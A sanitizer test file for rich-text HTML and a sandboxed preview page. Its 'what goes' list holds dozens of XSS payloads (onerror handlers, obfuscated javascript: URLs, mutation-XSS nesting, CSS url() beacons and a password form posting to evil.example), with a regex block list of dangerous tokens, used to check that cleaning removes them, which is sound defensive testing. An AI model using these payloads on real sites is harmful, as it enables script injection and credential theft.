// Rich text is cleaned before it is kept, and a preview is a page that can do nothing.

import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { isBlankHtml, plainText } from '#contract/kit/rich-text-rules'
import { richText } from '#contract/rich-text/calls'
import { type House, openHouse } from '../../house/harness/index'
import { cleanHtml } from '../kit/rich-text'

const own = '/prod-api/merchant-api/file/content/0123456789abcdefghijklmnopqrstuv.png'

describe('what stays', () => {
  test.each([
    '<p style="text-align: center; line-height: 1.75">文字 <strong>b</strong> <em>i</em> <u>u</u> <s>s</s></p>',
    '<h2 style="color: #cf1322">标题</h2>',
    '<ul><li><p>a</p></li></ul>',
    '<table style="min-width: 50px"><tbody><tr><td colspan="2" rowspan="1" colwidth="100"><p>x</p></td></tr></tbody></table>',
    `<img src="${own}" alt="图" width="300" />`,
    `<video src="${own.replace('png', 'mp4')}" controls></video>`,
    `<section style="background-image: url(${own}); padding: 8px"><p>x</p></section>`,
    '<p><a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer nofollow">x</a></p>',
    '<p><a href="tel:13800000000">x</a></p>',
  ])('%s', (html) =>
    expect(
      cleanHtml(html)
        .replace(/controls=""/, 'controls')
        .replaceAll('&quot;', ''),
    ).toBe(html),
  )
})

describe('what goes', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="//evil.example/x.png">',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name="password"><button>x</button></form>',
    '<p style="background: url(https://evil.example/t.gif)">x</p>',
    '<section style="background-image: url(https://evil.example/t.gif)">x</section>',
    '<img src="https://evil.example/x.png">',
    '<img src="HTTPS://evil.example/x.png">',
    '<img src="\\t//evil.example/x.png">',
    '<img src="/\\evil.example/x.png">',
    '<img src="/prod-api/merchant-api/file/content/../../../evil.example">',
    `<img src="https://evil.example${own}">`,
    `<img src="${own}" srcset="https://evil.example/x.png 2x" lowsrc="https://evil.example/x.png" longdesc="https://evil.example">`,
    '<picture><source srcset="https://evil.example/x.png"><img src="https://evil.example/x.png"></picture>',
    '<video src="https://evil.example/x.mp4"></video>',
    '<video><source src="https://evil.example/x.mp4"><track src="https://evil.example/x.vtt"></video>',
    `<video src="${own.replace('png', 'mp4')}" poster="https://evil.example/x.png"></video>`,
    '<audio src="https://evil.example/x.mp3"></audio>',
    '<input type="image" src="https://evil.example/x.png">',
    '<table background="https://evil.example/x.png"><tbody><tr><td background="https://evil.example/x.png">x</td></tr></tbody></table>',
    `<section style="background-image: url(${own}), url(https://evil.example/t.gif)">x</section>`,
    '<section style="background-image: image-set(\'https://evil.example/t.gif\' 1x)">x</section>',
    '<section style="background-image: u\\72l(https://evil.example/t.gif)">x</section>',
    '<ul style="list-style-image: url(https://evil.example/t.gif)"><li>x</li></ul>',
    '<p style="cursor: url(https://evil.example/t.gif), auto">x</p>',
    '<p style="border-image: url(https://evil.example/t.gif) 1">x</p>',
    '<p style="position: fixed; top: 0; width: 100vw">x</p>',
    '<p style="color: expression(alert(1))">x</p>',
    '<p style="behavior: url(x.htc)">x</p>',
    '<style>body { display: none }</style>',
    '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<video src="x" onloadstart=alert(1) autoplay></video>',
    '<p onclick="alert(1)" id="x" class="y" data-x="z">x</p>',
    '<template><script>alert(1)</script></template>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<isindex action="javascript:alert(1)">',
  ]
  const bad =
    /script|onerror|onload|onclick|javascript|vbscript|data:|evil\.example|expression|behavior|position|<(svg|math|iframe|object|embed|form|input|style|link|meta|base|template|textarea)/i
  test.each(hostile)('%s', (html) => expect(cleanHtml(html).replace(/&lt;|&gt;|&amp;/g, '')).not.toMatch(bad))

  test('cleaning twice changes nothing', () => {
    for (const html of hostile) expect(cleanHtml(cleanHtml(html))).toBe(cleanHtml(html))
  })
  test('deep nesting ends', () => expect(cleanHtml('<section>'.repeat(5000)).length).toBeLessThan(5000))
})

test('an editor that was only touched is blank', () => {
  expect(['', '<p></p>', '<p><br></p>', '<p>&nbsp;</p>', '<p>x</p>', '<p><img src="/x"></p>'].map(isBlankHtml)).toEqual([
    true,
    true,
    true,
    true,
    false,
    false,
  ])
  expect(plainText('<p>a &amp; b</p><p>c&lt;d</p>')).toBe('a & b\nc<d')
})

describe('a preview', () => {
  let house: House
  beforeAll(async () => {
    house = await openHouse()
  })
  afterAll(() => house.close())

  test('is kept for an hour under an address that cannot be guessed, and can do nothing', async () => {
    const token = await house.signIn('merchant01')
    const { code, data } = await house.call(richText.preview, { text: '<p>公告</p><script>alert(1)</script>' }, { token })
    expect(code).toBe(200)
    const shown = await house.app.inject({ url: data.url })
    expect(shown.payload).toContain('<p>公告</p>')
    expect(shown.payload).not.toContain('alert')
    expect(shown.headers['content-security-policy']).toMatch(/default-src 'none'.*sandbox allow-same-origin allow-popups$/)
    // Whatever stands in it, the page may ask this house alone.
    expect(shown.headers['content-security-policy']).not.toMatch(/https?:/)
    house.clock.advance(61 * 60_000)
    expect((await house.app.inject({ url: data.url })).statusCode).toBe(404)
    expect((await house.app.inject({ url: `${data.url.slice(0, -3)}%27--` })).statusCode).toBe(404)
  })

  test('needs a session to be made', async () => {
    expect(await house.call(richText.preview, { text: 'x' })).toMatchObject({ code: 401 })
  })
})
